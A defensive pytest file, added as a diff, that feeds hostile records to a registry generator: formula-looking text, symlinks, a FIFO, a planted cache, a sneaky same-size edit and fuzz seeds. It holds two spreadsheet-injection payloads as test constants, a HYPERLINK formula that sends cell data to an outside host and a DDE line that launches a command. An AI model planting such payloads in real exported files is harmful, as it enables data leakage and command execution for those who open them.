@@ -1,0 +1,226 @@
+"""Hostile records: what a pull request's author could try, and what must hold.
+
+Runs the corpus in ``tests/hostile/`` (see its README): formulas that must stay
+text in the ledger and open data, files outside the registry reached through
+symlinks, a cache fooled by an edit that keeps size and time, the litter of
+killed builds, and the fuzz inputs that once broke the gate.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import shutil
+import subprocess
+import sys
+from datetime import date
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from generator.cli import main
+from generator.load.yamlfile import load_file
+from generator.render.site import build as site_build
+from generator.render.site import opendata
+from generator.render.site.data import build_site_data
+from generator.validate.engine import validate
+from tests.conftest import REPO, make_registry
+from tests.validate.test_fuzz import check_gate_survives
+
+HOSTILE = Path(__file__).parent / "hostile"
+CANARY = "CANARY7731"
+DAY = ["--date", "2023-06-01"]
+BIO = '=HYPERLINK("http://x.example/?d="&A1,"点击查看")'
+DESCRIPTION = "+cmd|' /C calc'!A0"
+
+
+def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
+    code = main(list(argv))
+    captured = capsys.readouterr()
+    return code, captured.out + captured.err
+
+
+# ------------------------------------------------------------------ formulas
+
+
+@pytest.fixture
+def formula_registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.chdir(tmp_path)
+    return make_registry(tmp_path, HOSTILE / "formula-text")
+
+
+def test_free_text_that_looks_like_a_formula_passes_the_gate(formula_registry: Path) -> None:
+    # A biography may start with anything; it is the exports' job to keep it text.
+    assert validate(formula_registry, today=date(2023, 6, 1), jobs=1).result.errors == []
+
+
+def test_xlsx_ledger_has_no_formula_cell(formula_registry: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = formula_registry.parent / "ledger.xlsx"
+    assert _run(capsys, "export", "--no-cache", *DAY, "--out", str(out))[0] == 0
+    book = load_workbook(out)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value: c for c in cells if isinstance(c.value, str)}
+    assert BIO in texts and DESCRIPTION in texts, "the text itself is kept, as text"
+    assert texts[BIO].data_type == "s" and texts[BIO].quotePrefix
+
+
+def test_csv_ledger_neutralises_formulas(formula_registry: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert _run(capsys, "export", "--no-cache", *DAY, "--format", "csv", "--out", str(formula_registry.parent / "l.csv"))[0] == 0
+    cells = [cell for path in formula_registry.parent.glob("l-*.csv")
+             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
+    assert "'" + BIO in cells and "'" + DESCRIPTION in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_open_data_csv_neutralises_formulas_and_json_keeps_the_text(formula_registry: Path) -> None:
+    run = validate(formula_registry, today=date(2023, 6, 1), jobs=1)
+    folder = formula_registry.parent / "data"
+    opendata.write(build_site_data(run.registry, mask_apprentices=True), folder)
+    cells = [cell for path in folder.glob("*.csv")
+             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
+    assert "'" + BIO in cells and "'" + DESCRIPTION in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    masters = json.loads((folder / "masters.json").read_text(encoding="utf-8"))
+    assert BIO in [m["bio"] for m in masters], "JSON is data, never evaluated: the text stays as written"
+
+
+# ------------------------------------------------------------------ symlinks and special files
+
+
+def _canary_free(text: str) -> None:
+    assert CANARY not in text and "aws_secret" not in text
+
+
+@pytest.mark.parametrize("target", ["master.yml", "other-keys.yml"])
+def test_a_symlinked_record_is_refused_and_never_read(registry_dir: Path, capsys: pytest.CaptureFixture[str],
+                                                      target: str) -> None:
+    link = registry_dir / "masters" / "evil.yml"
+    link.symlink_to(HOSTILE / "canary" / target)
+    code, out = _run(capsys, "validate", "--no-cache", *DAY)
+    assert code == 1
+    assert "records/masters/evil.yml: error file.symlink: 这是一个符号链接" in out
+    _canary_free(out)
+    code, out = _run(capsys, "validate", "--no-cache", "--format", "github", *DAY)
+    assert code == 1
+    _canary_free(out)
+
+
+def test_no_output_carries_what_a_symlink_points_at(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (registry_dir / "masters" / "evil.yml").symlink_to(HOSTILE / "canary" / "master.yml")
+    work = registry_dir.parent
+    outputs = [
+        ("build", "--no-cache", *DAY, "--site-dir", str(work / "site"), "--docs-dir", str(work / "docs"),
+         "--config", str(REPO / "mkdocs.yml")),
+        ("export", "--no-cache", *DAY, "--out", str(work / "ledger.xlsx")),
+        ("forms", "--no-cache", *DAY, "--out", str(work / "forms")),
+    ]
+    for argv in outputs:
+        code, out = _run(capsys, *argv)
+        assert code == 1, argv
+        _canary_free(out)
+    written = [p for p in work.rglob("*") if p.is_file() and "records" not in p.relative_to(work).parts]
+    assert written == [], "nothing is written from a registry with a symlink"
+
+
+def test_a_symlinked_folder_is_refused(registry_dir: Path, tmp_path_factory: pytest.TempPathFactory,
+                                       capsys: pytest.CaptureFixture[str]) -> None:
+    outside = tmp_path_factory.mktemp("outside")
+    shutil.copy(HOSTILE / "canary" / "master.yml", outside / "evil.yml")
+    (registry_dir / "masters" / "more").symlink_to(outside, target_is_directory=True)
+    code, out = _run(capsys, "validate", "--no-cache", *DAY)
+    assert code == 1 and "records/masters/more: error file.symlink" in out
+    _canary_free(out)
+
+
+def test_a_symlinked_records_folder_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                               capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.chdir(tmp_path)
+    real = make_registry(tmp_path / "elsewhere")
+    (tmp_path / "records").symlink_to(real, target_is_directory=True)
+    code, out = _run(capsys, "validate", "--no-cache", *DAY)
+    assert code == 1 and "records: error file.symlink" in out
+
+
+def test_a_fifo_is_refused_without_waiting_on_it(registry_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    os.mkfifo(registry_dir / "units" / "pipe.yml")
+    code, out = _run(capsys, "validate", "--no-cache", *DAY)
+    assert code == 1 and "records/units/pipe.yml: error file.not_regular" in out
+
+
+def test_the_loader_never_follows_a_link_swapped_in_after_discovery(tmp_path: Path) -> None:
+    link = tmp_path / "swapped.yml"
+    link.symlink_to(HOSTILE / "canary" / "master.yml")
+    loaded = load_file(str(link), "records/masters/swapped.yml")
+    assert loaded.document is None
+    assert [d.rule for d in loaded.diagnostics] == ["file.read"]
+    _canary_free(loaded.diagnostics[0].message)
+
+
+# ------------------------------------------------------------------ the cache
+
+
+def test_an_edit_keeping_size_and_time_is_checked_again(registry_dir: Path, capsys: pytest.CaptureFixture[str],
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("CI", raising=False)  # the cache is what is under test
+    record = registry_dir / "masters" / "teacher.yml"
+    assert _run(capsys, "validate", *DAY)[0] == 0
+    before = record.stat()
+    text = record.read_text(encoding="utf-8")
+    record.write_text(text.replace("gender: 男", "gender: 狗"), encoding="utf-8")  # same number of bytes
+    os.utime(record, ns=(before.st_atime_ns, before.st_mtime_ns))  # what `touch -r` does
+    assert record.stat().st_size == before.st_size and record.stat().st_mtime_ns == before.st_mtime_ns
+    code, out = _run(capsys, "validate", *DAY)
+    assert code == 1 and "records/masters/teacher.yml:3:9: error schema" in out
+
+
+def test_a_cache_inside_the_checkout_is_never_read(registry_dir: Path, capsys: pytest.CaptureFixture[str],
+                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    """A pull request can add files to the checkout, so the cache is not kept there."""
+    monkeypatch.delenv("CI", raising=False)
+    record = registry_dir / "masters" / "teacher.yml"
+    record.write_text(record.read_text(encoding="utf-8").replace("gender: 男", "gender: 狗"), encoding="utf-8")
+    planted = registry_dir.parent / ".jiangpu-cache"
+    planted.mkdir()
+    (planted / "validate-0000000000000000.json").write_text('{"masters/teacher.yml": [0, 0, {}, []]}', encoding="utf-8")
+    assert _run(capsys, "validate", *DAY)[0] == 1
+
+
+# ------------------------------------------------------------------ litter of killed builds
+
+
+def _dead_pid() -> int:
+    process = subprocess.Popen([sys.executable, "-c", "pass"])
+    process.wait()
+    return process.pid
+
+
+def test_a_build_removes_what_killed_builds_left_and_its_own_folders_on_failure(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    site = tmp_path / "site"
+    stale = [tmp_path / f".site.new-{_dead_pid()}-abcd", tmp_path / f".site.old-{_dead_pid()}", tmp_path / ".docs.new-x1y2z3"]
+    running = tmp_path / f".site.new-{os.getppid()}-live"  # a build that is still running is left alone
+    for folder in stale + [running]:
+        folder.mkdir()
+        (folder / "index.html").write_text("old", encoding="utf-8")
+
+    def failing_render(*args: object, **kwargs: object) -> int:
+        raise RuntimeError("simulated failure while rendering")
+
+    monkeypatch.setattr(site_build, "render_docs", failing_render)
+    run = validate(make_registry(tmp_path / "reg"), today=date(2023, 6, 1), jobs=1)
+    with pytest.raises(RuntimeError):
+        site_build.build_site(run.registry, config_file=REPO / "mkdocs.yml", site_dir=site, docs_dir=tmp_path / "docs")
+    left = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("."))
+    assert left == [running.name]
+
+
+# ------------------------------------------------------------------ fuzz seeds
+
+
+@pytest.mark.parametrize("seed", sorted((HOSTILE / "fuzz-seeds").glob("*.yml")), ids=lambda p: p.stem)
+def test_fuzz_seed_gives_diagnostics_not_a_traceback(seed: Path) -> None:
+    folder, _, _ = seed.stem.partition("--")
+    check_gate_survives(f"{folder}/{seed.stem.partition('--')[2]}.yml", seed.read_bytes())
